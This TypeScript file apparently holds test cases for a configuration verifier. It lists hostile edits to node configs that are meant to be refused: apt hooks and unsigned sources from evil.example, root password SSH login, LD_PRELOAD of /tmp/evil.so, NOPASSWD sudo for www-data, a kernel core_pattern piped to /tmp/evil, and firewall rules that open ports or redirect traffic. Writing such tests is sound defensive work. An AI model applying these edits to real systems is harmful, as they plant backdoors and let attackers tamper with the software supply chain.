import { mayPass, refused } from './brief.ts';
import type { SabotagesOfKind } from './sabotage.ts';

const apt = '/etc/apt/apt.conf.d/52fjord';
const sshd = '/etc/ssh/sshd_config.d/10-fjord.conf';
const unit = '/etc/systemd/system/openfaas-cert.service';
const dropIn = '/etc/systemd/system/nginx.service.d/fjord.conf';
const sysctl = '/etc/sysctl.d/99-serverless.conf';
const modules = '/etc/modules-load.d/fjord.conf';
const firewall = '/etc/fjord/firewall.nft';
const registries = '/etc/rancher/k3s/registries.yaml';
const preferences = '/etc/apt/preferences.d/fjord-nginx';
const sources = '/etc/apt/sources.list.d/fjord-nginx.sources';
const every = 'every-option';
const several = 'five-servers-and-agents';
const put = (path: string, text: string) => ({
  file: 'apply.sh',
  find: 'remove_others\nif',
  put: `put 0644 ${path} <<'END'\n${text}END\nremove_others\nif`,
});

/** What other programs of a node are told. */
export const nodePrograms: SabotagesOfKind = [
  refused('apt runs a command before it asks for packages', 'verify/script-edited', {
    file: apt,
    put: 'APT::Update::Pre-Invoke { "id"; };\n',
  }),
  refused('apt runs a command after it installed', 'verify/script-edited', {
    file: apt,
    put: 'DPkg::Post-Invoke { "id"; };\n',
  }),
  refused('apt asks by a proxy', 'verify/script-edited', {
    file: apt,
    put: 'Acquire::http::Proxy "http://203.0.113.66:3128";\n',
  }),
  refused('apt takes packages that nobody signed', 'verify/script-edited', {
    file: apt,
    put: 'APT::Get::AllowUnauthenticated "true";\n',
  }),
  refused('apt takes lists that nobody signed', 'verify/script-edited', {
    file: apt,
    put: 'Acquire::AllowInsecureRepositories "true";\n',
  }),
  refused('apt believes any certificate', 'verify/script-edited', {
    file: apt,
    put: 'Acquire::https::Verify-Peer "false";\n',
  }),
  refused('apt reads more', 'verify/script-edited', { file: apt, put: '#include "/tmp/apt.conf"\n' }),
  refused('no security updates', 'verify/script-edited', {
    file: apt,
    find: 'Unattended-Upgrade "1"',
    put: 'Unattended-Upgrade "0"',
  }),
  refused('security updates that restart the node', 'verify/script-edited', {
    file: apt,
    put: 'Unattended-Upgrade::Automatic-Reboot "true";\n',
  }),
  refused('apt forgets a setting again', 'verify/script-edited', {
    file: apt,
    put: '#clear APT::Periodic;\n',
  }),
  refused(
    'another origin of updates',
    'verify/script-edited',
    { file: '/etc/apt/apt.conf.d/52fjord-nginx', find: 'origin=nginx', put: 'origin=*' },
    every,
  ),
  refused(
    'every package from nginx.org first',
    'verify/script-edited',
    { file: preferences, find: 'Pin-Priority: 100', put: 'Pin-Priority: 1001' },
    every,
  ),
  refused(
    'a package of another place first',
    'verify/script-edited',
    { file: preferences, put: '\nPackage: *\nPin: origin "evil.example"\nPin-Priority: 1001\n' },
    every,
  ),
  refused(
    'packages that nobody need have signed',
    'verify/script-edited',
    { file: sources, put: 'Trusted: yes\n' },
    every,
  ),
  refused(
    'a second source of packages',
    'verify/script-edited',
    {
      file: sources,
      put: '\nTypes: deb\nURIs: http://evil.example\nSuites: trixie\nComponents: main\nTrusted: yes\n',
    },
    every,
  ),
  refused(
    'packages from two places',
    'verify/script-edited',
    {
      file: sources,
      find: 'URIs: https://mirror.example.fi/nginx/packages/debian',
      put: 'URIs: https://mirror.example.fi/nginx/packages/debian http://evil.example',
    },
    every,
  ),
  refused(
    'sshd lets root in by password',
    'verify/script-edited',
    { file: sshd, put: 'PermitRootLogin yes\nPasswordAuthentication yes\n' },
    every,
  ),
  refused(
    'sshd runs a command for who logs in',
    'verify/script-edited',
    { file: sshd, put: 'ForceCommand id\n' },
    every,
  ),
  refused(
    'sshd asks a command which keys are good',
    'verify/script-edited',
    { file: sshd, put: 'AuthorizedKeysCommand /tmp/keys\nAuthorizedKeysCommandUser root\n' },
    every,
  ),
  refused(
    'sshd reads keys that all may write',
    'verify/script-edited',
    { file: sshd, put: 'AuthorizedKeysFile /tmp/keys\n' },
    every,
  ),
  refused('sshd at a second port', 'verify/not-as-meant', { file: sshd, put: 'Port 23\n' }, every),
  refused(
    'sshd at another port than the lock file says',
    'verify/not-as-meant',
    { file: sshd, find: 'Port 2222', put: 'Port 2022' },
    every,
  ),
  refused('the certificate unit runs more', 'verify/script-edited', {
    file: unit,
    find: 'ExecStart=/usr/local/sbin/openfaas-tls issue\n',
    put: 'ExecStart=/usr/local/sbin/openfaas-tls issue\nExecStartPost=/bin/id\n',
  }),
  refused('the certificate unit reads variables', 'verify/script-edited', {
    file: unit,
    find: '[Install]',
    put: 'Environment=LD_PRELOAD=/tmp/evil.so\n\n[Install]',
  }),
  refused("nginx' unit runs more as root", 'verify/script-edited', {
    file: dropIn,
    put: 'ExecStartPre=/bin/id\n',
  }),
  refused("nginx' unit keeps rights", 'verify/script-edited', {
    file: dropIn,
    put: 'AmbientCapabilities=CAP_SYS_ADMIN\n',
  }),
  refused("nginx' unit runs another conf", 'verify/script-edited', {
    file: dropIn,
    find: "-g 'daemon on; master_process on;'",
    put: "-g 'daemon on; master_process on;' -c /tmp/nginx.conf",
  }),
  refused(
    'a unit of somebody',
    'verify/schema',
    put('/etc/systemd/system/more.service', '[Service]\nExecStart=/bin/id\n'),
  ),
  refused(
    'a drop-in for sshd',
    'verify/schema',
    put('/etc/systemd/system/ssh.service.d/fjord.conf', '[Service]\nExecStartPre=/bin/id\n'),
  ),
  refused('a cron table', 'verify/schema', put('/etc/cron.d/more', '* * * * * root id\n')),
  refused('a rule of sudo', 'verify/schema', put('/etc/sudoers.d/more', 'www-data ALL=(ALL) NOPASSWD:ALL\n')),
  refused(
    'a hook of certbot',
    'verify/schema',
    put('/etc/letsencrypt/renewal-hooks/deploy/more', '#!/bin/sh\nid\n'),
  ),
  refused(
    'a script of logrotate',
    'verify/schema',
    put('/etc/logrotate.d/more', '/var/log/x {\n  postrotate\n    id\n  endscript\n}\n'),
  ),
  refused(
    'a second conf of apt',
    'verify/schema',
    put('/etc/apt/apt.conf.d/99more', 'APT::Update::Pre-Invoke { "id"; };\n'),
  ),
  refused(
    'a second drop-in of sshd',
    'verify/schema',
    put('/etc/ssh/sshd_config.d/99-more.conf', 'PermitRootLogin yes\n'),
  ),
  refused(
    'a second drop-in of the kernel',
    'verify/schema',
    put('/etc/sysctl.d/zz-more.conf', 'net.ipv4.ip_forward = 0\n'),
  ),
  refused(
    'a second conf of nginx',
    'verify/schema',
    put(
      '/etc/nginx/conf.d/more.conf',
      'server {\n    listen 127.0.0.1:81;\n    location / {\n        return 404;\n    }\n}\n',
    ),
  ),
  refused(
    'a manifest that nobody sees',
    'verify/schema',
    put(
      '/var/lib/rancher/k3s/server/manifests/more.yaml',
      'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: more\n',
    ),
  ),
  refused('a second script of root', 'verify/schema', put('/usr/local/sbin/more', '#!/bin/bash\nid\n')),
  refused(
    'a registries file that nobody sees',
    'verify/not-as-meant',
    put(
      '/etc/rancher/k3s/registries.yaml',
      'mirrors:\n  docker.io:\n    endpoint:\n      - https://evil.example\n',
    ),
  ),
  refused('modules of the kernel that do not matter to us', 'verify/script-edited', {
    file: modules,
    put: 'usbnet\n',
  }),
  refused('a module of the kernel by its path', 'verify/script-edited', {
    file: modules,
    put: '/tmp/evil.ko\n',
  }),
  refused('the kernel runs a program for each crash', 'verify/schema', {
    file: sysctl,
    put: '\n# as the config says\nkernel.core_pattern = |/tmp/evil\n',
  }),
  refused('the kernel loads modules by another program', 'verify/not-as-meant', {
    file: sysctl,
    put: '\n# as the config says\nkernel.modprobe = tmp-evil\n',
  }),
  refused('the kernel lets users trace each other', 'verify/not-as-meant', {
    file: sysctl,
    put: '\n# as the config says\nkernel.yama.ptrace_scope = 0\n',
  }),
  refused('the kernel follows redirects', 'verify/not-as-meant', {
    file: sysctl,
    put: '\n# as the config says\nnet.ipv4.conf.all.accept_redirects = 1\n',
  }),
  refused('the kernel shows its addresses', 'verify/not-as-meant', {
    file: sysctl,
    put: '\n# as the config says\nkernel.kptr_restrict = 0\n',
  }),
  refused('the kernel forwards nothing', 'verify/not-as-meant', {
    file: sysctl,
    put: '\n# as the config says\nnet.ipv4.ip_forward = 0\n',
  }),
  refused('all ports are open', 'verify/socket-open', {
    file: firewall,
    find: 'policy drop',
    put: 'policy accept',
  }),
  refused('one port is open to all', 'verify/socket-open', {
    file: firewall,
    find: '{ 22, 80, 443 }',
    put: '{ 22, 80, 443, 6443 }',
  }),
  refused('one address may open everything', 'verify/socket-open', {
    file: firewall,
    find: '    tcp dport { 22',
    put: '    ip saddr 203.0.113.66 accept\n    tcp dport { 22',
  }),
  refused('what comes for port 80 goes elsewhere', 'verify/socket-open', {
    file: firewall,
    put: 'table ip more {\n  chain prerouting {\n    type nat hook prerouting priority dstnat;\n    tcp dport 80 dnat to 203.0.113.66\n  }\n}\n',
  }),
  refused("K3s' rules are flushed", 'verify/socket-open', {
    file: firewall,
    find: 'table inet fjord\ndelete',
    put: 'flush ruleset\ntable inet fjord\ndelete',
  }),
  refused('the firewall includes a file', 'verify/socket-open', {
    file: firewall,
    put: 'include "/tmp/more.nft"\n',
  }),
  refused('a pod of any address is believed', 'verify/script-edited', {
    file: firewall,
    find: 'iifname cni0 ip saddr 10.42.0.0/16 accept',
    put: 'iifname cni0 ip saddr 10.42.0.0/16 accept\n    ip saddr 10.42.0.0/16 accept',
  }),
  refused(
    'images from a mirror of somebody',
    'verify/not-as-meant',
    {
      file: registries,
      find: '      - https://mirror.example.fr\n',
      put: '      - https://evil.example\n      - https://mirror.example.fr\n',
    },
    several,
  ),
  refused(
    'images from a mirror whose certificate is not checked',
    'verify/schema',
    { file: registries, put: 'configs:\n  mirror.example.fr:\n    tls:\n      insecure_skip_verify: true\n' },
    several,
  ),
  refused(
    'images by a password',
    'verify/schema',
    {
      file: registries,
      put: 'configs:\n  mirror.example.fr:\n    auth:\n      username: a\n      password: b\n',
    },
    several,
  ),
  refused(
    'images under another name',
    'verify/not-as-meant',
    { file: registries, find: '"hub/$1"', put: '"evil/$1"' },
    several,
  ),
  mayPass('the kernel swaps a little more', 'kernel.sysctl says any value that does no harm', {
    file: sysctl,
    find: 'vm.swappiness = 1',
    put: 'vm.swappiness = 2',
  }),
];
